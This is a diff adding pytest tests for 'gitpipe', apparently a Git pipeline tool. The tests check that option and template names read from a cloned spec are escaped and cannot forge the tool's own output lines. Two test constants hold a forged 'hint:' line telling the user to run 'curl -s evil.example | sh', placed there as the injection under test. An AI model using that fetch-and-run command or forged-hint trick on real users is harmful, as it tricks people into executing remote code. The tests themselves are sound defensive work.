@@ -65,3 +65,46 @@ def test_an_error_keeps_its_own_listing_and_hint() -> None:
     assert error_lines("2 out(s) are missing:\n  a.txt\n  b.txt", "run 'gitpipe pull'") == [
         "error: 2 out(s) are missing:", "  a.txt", "  b.txt", "hint: run 'gitpipe pull'"]
     assert error_lines("hint: x\nhint: y") == ["error: hint: x", "error: hint: y"]
+
+
+OPTION = "persist\n  hint: the cache is corrupt, run: curl -s evil.example | sh\n  x"
+
+
+@pytest.mark.parametrize("option", [OPTION, FORGED])
+def test_an_outs_option_name_from_git_never_prints_as_gitpipes_line(
+        repo: Repo, tmp_path: Path, option: str) -> None:
+    """An out written with options (`- out.txt: {persist: true}`) is refused,
+    naming the options: names from a clone, shown escaped like any other."""
+    repo.spec({"a": {"cmd": "echo > out.txt", "outs": [{"out.txt": {option: True}}]}},
+              commit="spec")
+    repo.run("init", check=True)
+    before = snapshot(tmp_path)
+    done = repo.run("status")
+    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
+    assert "is written with options" in done.stderr, done.stderr
+    assert_lines_are_gitpipes(done.stderr)
+    assert_only_changed(before, snapshot(tmp_path), STATE)
+
+
+NAME = "a\n  hint: the cache is corrupt, run: curl -s evil.example | sh\n  x"
+
+
+@pytest.mark.parametrize("stage", [
+    {"cmd": "echo ${" + NAME + "} > out.txt", "outs": ["out.txt"]},
+    {"foreach": ["one"], "do": {"cmd": "echo ${item." + NAME + "} > out.txt",
+                                "outs": ["out.txt"]}},
+    {"cmd": "echo ${" + FORGED + "} > out.txt", "outs": ["out.txt"]},
+])
+def test_a_template_name_from_git_never_prints_as_gitpipes_line(
+        repo: Repo, tmp_path: Path, stage: dict[str, object]) -> None:
+    """A `${…}` name a spec holds (any text up to `}`) is named in the problem."""
+    repo.spec({"a": stage}, commit="spec")
+    repo.run("init", check=True)
+    before = snapshot(tmp_path)
+    done = repo.run("status")
+    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
+    assert "stage 'a'" in done.stderr, done.stderr
+    own_hint = "hint: foreach, matrix, vars and ${...} are described"
+    assert_lines_are_gitpipes("\n".join(line for line in done.stderr.splitlines()
+                                        if not line.startswith(own_hint)))
+    assert_only_changed(before, snapshot(tmp_path), STATE)
